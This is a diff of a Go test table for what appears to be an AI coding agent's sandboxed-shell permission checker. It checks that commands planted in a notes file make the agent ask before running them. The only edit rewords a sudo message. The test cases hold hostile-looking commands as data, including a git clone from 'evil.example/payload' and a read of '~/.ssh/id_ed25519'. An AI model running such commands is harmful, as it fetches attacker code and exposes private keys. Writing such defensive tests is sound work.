@@ -66,7 +66,7 @@ func TestAutoEditSandboxedShell(t *testing.T) {
 		{"planted inside a longer line", activeSandbox, planted(shellReq("go test ./... && echo PLANTED > planted.txt")), OutcomeAsk, "appears in notes.md", "", false},
 		{"url from the text", activeSandbox, planted(shellReq("git clone https://evil.example/payload tools")), OutcomeAsk, "`https://evil.example/payload` appears in notes.md", "", false},
 		{"path outside the usual", activeSandbox, planted(shellReq("cat ~/.ssh/id_ed25519")), OutcomeAsk, "`~/.ssh/id_ed25519` appears in notes.md", "", false},
-		{"risky by the parse", activeSandbox, shellReq("sudo make install"), OutcomeAsk, "high-risk command lines: this one sudo runs a command as another user", "", false},
+		{"risky by the parse", activeSandbox, shellReq("sudo make install"), OutcomeAsk, "high-risk command lines: sudo runs a command as another user", "", false},
 		{"writes outside by redirection", activeSandbox, shellReq("echo x > /etc/motd"), OutcomeAsk, "writes /etc/motd, outside the workspace", "", false},
 		// Changes in the workspace that undo can restore run; what undo
 		// cannot restore, or what leaves the workspace, asks.
